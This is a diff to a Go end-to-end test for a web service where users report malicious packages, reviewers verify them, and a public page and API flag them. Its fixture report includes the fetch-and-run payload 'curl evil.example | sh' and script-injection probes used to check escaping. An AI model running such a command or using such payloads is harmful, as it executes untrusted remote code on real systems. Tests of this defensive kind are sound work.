@@ -196,7 +196,19 @@ func TestWebJourney(t *testing.T) {
 		"first_seen": {"yesterday"},
 	}
 	sam.get("/submit").expect(t, 200, "Submit a report", "separated by the pipe character", "separated by commas")
-	sam.post("/submit", form).expect(t, 400, "first_seen:", `value="web-evil-pkg"`, "Steals npm tokens on install")
+	sam.post("/submit", form).expect(t, 400, `First seen: "yesterday" is not`, `value="web-evil-pkg"`, "Steals npm tokens on install")
+	// Every problem at once, in the form's words: an empty required field
+	// is a 400 next to it (it was a 503), with the others.
+	bad := url.Values{}
+	for k, v := range form {
+		bad[k] = v
+	}
+	bad.Set("threat_description", "")
+	bad.Set("last_seen", "2026-13-45")
+	bad.Set("severity_level", "apocalyptic")
+	p = sam.post("/submit", bad).expect(t, 400, "4 fields need correcting", "Threat description is required.", `First seen: "yesterday"`,
+		`href="#threat_description"`, "Severity must be", `Last seen: "2026-13-45" is not`, `id="threat_description-error"`)
+	p.lacks(t, "Service Unavailable", "first_seen:", "threat_description:")
 	form.Set("first_seen", "2026-11-20T14:00:00Z")
 	p = sam.post("/submit", form).expect(t, 200, "pending", "web-evil-pkg", "sam-private@example.com")
 	id := strings.TrimPrefix(p.url, "/threats/")
@@ -219,9 +231,13 @@ func TestWebJourney(t *testing.T) {
 	q.lacks(t, "<script>alert(1)")
 	rita.post("/review/threats/"+id, url.Values{"decision": {"reject"}, "version": {"1"}}).
 		expect(t, 200, "Not done: note: a note is required to reject a report")
+	// The message was a flash: it is shown once, and no URL can make the
+	// page say something.
+	rita.get("/review").lacks(t, "Not done")
+	rita.get("/review?error=Your+account+is+suspended&done=hacked").lacks(t, "suspended", "hacked")
 	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"2"}}).expect(t, 200, "Not done:")
 	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"1"}, "note": {"confirmed"}}).
-		expect(t, 200, "Done: package web-evil-pkg: verified")
+		expect(t, 200, "Done: package web-evil-pkg is verified.")
 	r := d.do("GET", checkPath("report_type", "package", "resource_identifier", "web-evil-pkg", "ecosystem", "npm"), secret, "").expect(t, 200, "")
 	if r.body["malicious"] != true {
 		t.Fatalf("check-malicious right after the web decision: %s (cache.freshness is 60s: the decision must not wait for it)", r.raw)
@@ -232,29 +248,75 @@ func TestWebJourney(t *testing.T) {
 	pub := anon.get("/threats/"+id).expect(t, 200, "web-evil-pkg", "Steals npm tokens on install", "credential-stealer",
 		"<code>curl evil.example | sh</code>", `href="https://blog.example/post" rel="nofollow noopener"`, "verified", "by Rita", "confirmed")
 	pub.lacks(t, "sam-private@example.com", "<script>alert", "javascript:", "onerror")
-	home = anon.get("/?report_type=package&resource_identifier=web-evil-pkg&ecosystem=npm").expect(t, 200, "Malicious.", "/threats/"+id)
-	anon.get("/?purl=pkg:npm/web-evil-pkg@1.0.2").expect(t, 200, "Malicious.")
+	const malicious, notFound = `<p class="verdict-title">Malicious</p>`, `<p class="verdict-title">Not found</p>`
+	home = anon.get("/?report_type=package&resource_identifier=web-evil-pkg&ecosystem=npm").expect(t, 200, malicious, "/threats/"+id)
+	anon.get("/?purl=pkg:npm/web-evil-pkg@1.0.2").expect(t, 200, malicious)
 	// As the form sends it: the type select always has a value.
-	anon.get("/?report_type=package&resource_identifier=&ecosystem=&version=&purl=pkg:npm/web-evil-pkg").expect(t, 200, "Malicious.")
-	anon.get("/?report_type=package&resource_identifier=web-evil-pkg&purl=pkg:npm/web-evil-pkg").expect(t, 200, "give either purl alone")
-	anon.get("/?purl=pkg:npm/left-pad@1.0.0").expect(t, 200, "Not found.")
-	anon.get("/?report_type=ip&resource_identifier=not-an-ip").expect(t, 200, `<p class="error" role="alert">resource_identifier: `)
+	anon.get("/?report_type=package&resource_identifier=&ecosystem=&version=&purl=pkg:npm/web-evil-pkg").expect(t, 200, malicious)
+	anon.get("/?report_type=package&resource_identifier=web-evil-pkg&purl=pkg:npm/web-evil-pkg").expect(t, 400, "give either purl alone")
+	anon.get("/?purl=pkg:npm/left-pad@1.0.0").expect(t, 200, notFound)
+	anon.get("/?report_type=ip&resource_identifier=not-an-ip").expect(t, 400, `<p class="error" role="alert">`)
+	// The one search box: a name, a prefix, a purl; an indicator of the
+	// verified report (its payload names evil.example) is found as one.
+	anon.get("/?q=web-evil-pkg").expect(t, 200, malicious, "/threats/"+id, "check-malicious?report_type=package&resource_identifier=web-evil-pkg")
+	anon.get("/?q=web-ev").expect(t, 200, notFound, "Packages whose names start with", "/threats/"+id)
+	anon.get("/?q=pkg:npm/web-evil-pkg@1.0.1").expect(t, 200, malicious)
+	anon.get("/?q=pkg:npm/web-evil-pkg@9.9.9").expect(t, 200, notFound)
+	anon.get("/?q=evil%5B.%5Dexample").expect(t, 200, `<p class="verdict-title">Named as an indicator</p>`, "named as an indicator in", "/threats/"+id)
+	anon.get("/?q=left-pad").expect(t, 200, notFound, "a package name")
+	anon.get("/?q=").expect(t, 400, "is empty")
+	if p := anon.get("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").expect(t, 200, notFound); !strings.Contains(p.body, "&lt;script&gt;alert(1)") || strings.Contains(p.body, "<script>alert") {
+		t.Errorf("a hostile search is not shown escaped:\n%s", p.body)
+	}
+	// The API's opt-in: the same indicator through check-malicious.
+	ind := d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example", "match", "indicators"), secret, "").expect(t, 200, "")
+	if ind.body["malicious"] != true || ind.body["matched_as"] != "indicator" || ind.body["threat_count"] != float64(1) {
+		t.Errorf("check-malicious match=indicators: %s", ind.raw)
+	}
+	if plain := d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example"), secret, "").expect(t, 200, ""); plain.body["malicious"] != false || plain.body["matched_as"] != nil {
+		t.Errorf("check-malicious without match: %s (the default is unchanged)", plain.raw)
+	}
+	d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example", "match", "everything"), secret, "").expect(t, 400, `match: must be indicators (or absent: reports only), not "everything"`)
+	// Browsing: the verified report, filtered, with its total.
+	anon.get("/threats").expect(t, 200, "1 verified threat", "web-evil-pkg")
+	anon.get("/threats?type=package&ecosystem=npm&severity=high&sort=oldest").expect(t, 200, "1 verified threat", "web-evil-pkg")
+	anon.get("/threats?severity=low").expect(t, 200, "0 verified threats", "No verified threat matches")
+	anon.get("/threats?from=2026-13-01").expect(t, 400, "from: must be a date")
+	anon.get("/threats?after=junk").expect(t, 400, "is not a page of this list")
+	// Unknown addresses: an HTML page for a browser, JSON for an API
+	// client and on API paths.
+	asBrowser := func(path string) page {
+		req, _ := http.NewRequest("GET", d.base+path, nil)
+		req.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
+		return anon.send(req)
+	}
+	asBrowser("/no-such-page").expect(t, 404, "<!doctype html>", "There is no page at this address")
+	anon.get("/no-such-page").expect(t, 404).lacks(t, "<!doctype")
+	asBrowser(base+"/no-such-endpoint").expect(t, 404).lacks(t, "<!doctype")
+	// The threat page's renderings.
+	anon.get("/threats/"+id).expect(t, 200, "This report elsewhere", "/threats/"+id+".json", "/osv/v1/vulns/THREATD-"+id, "objects/malware--")
+	js := anon.get("/threats/"+id+".json").expect(t, 200, `"resource_identifier":"web-evil-pkg"`)
+	js.lacks(t, "sam-private@example.com")
+	anon.get("/threats/"+id+"x.json").expect(t, 404, `"error"`)
 
 	// A revision of the verified report waits in the queue with its diff;
 	// approved on the web, the report's page lists what it changed.
 	d.do("PUT", base+"/modify-threat-report", secret, `{"threat_id":"`+id+`","publisher":"evil-corp"}`).expect(t, 200, "")
-	q = rita.get("/review").expect(t, 200, "Pending revisions (1)", "publisher", "evil-corp")
+	q = rita.get("/review").expect(t, 200, "Pending revisions (1)", "<dt>Publisher</dt>", "evil-corp", "Approve revision", "Reject revision")
 	rev := regexp.MustCompile(`action="(/review/revisions/[^"]+)"`).FindStringSubmatch(q.body)
 	if rev == nil {
 		t.Fatalf("no decision form for the pending revision:\n%s", q.body)
 	}
-	rita.post(rev[1], url.Values{"decision": {"approve"}, "note": {"ok"}}).expect(t, 200, "Done: revision 1: approved")
-	anon.get("/threats/"+id).expect(t, 200, "evil-corp", "Revision 1 by Sam S", "approved", "Changed: publisher.")
+	rita.post(rev[1], url.Values{"decision": {"approve"}, "note": {"ok"}}).expect(t, 200, "Done: revision 1 is approved.")
+	anon.get("/threats/"+id).expect(t, 200, "evil-corp", "Revision 1 by Sam S", "approved", "Changed: Publisher.")
 
 	// Revoke: the token stops working at once on this daemon.
 	sam.get("/settings/tokens")
 	m := regexp.MustCompile(`action="(/settings/tokens/[^/]+/revoke)"`).FindStringSubmatch(sam.last)
-	sam.post(m[1], url.Values{}).expect(t, 200, "revoked")
+	// Revoking asks first; the token works until it is confirmed.
+	sam.post(m[1], url.Values{}).expect(t, 200, "Revoke token “ci-pipeline”?", "cannot be undone", "Cancel")
+	d.do("GET", base+"/account", secret, "").expect(t, 200, "")
+	sam.post(m[1], url.Values{"confirm": {"yes"}}).expect(t, 200, "is revoked.")
 	d.do("GET", base+"/account", secret, "").expect(t, 401, "Invalid API token")
 
 	// Log out ends the session on the server, not only the cookie.
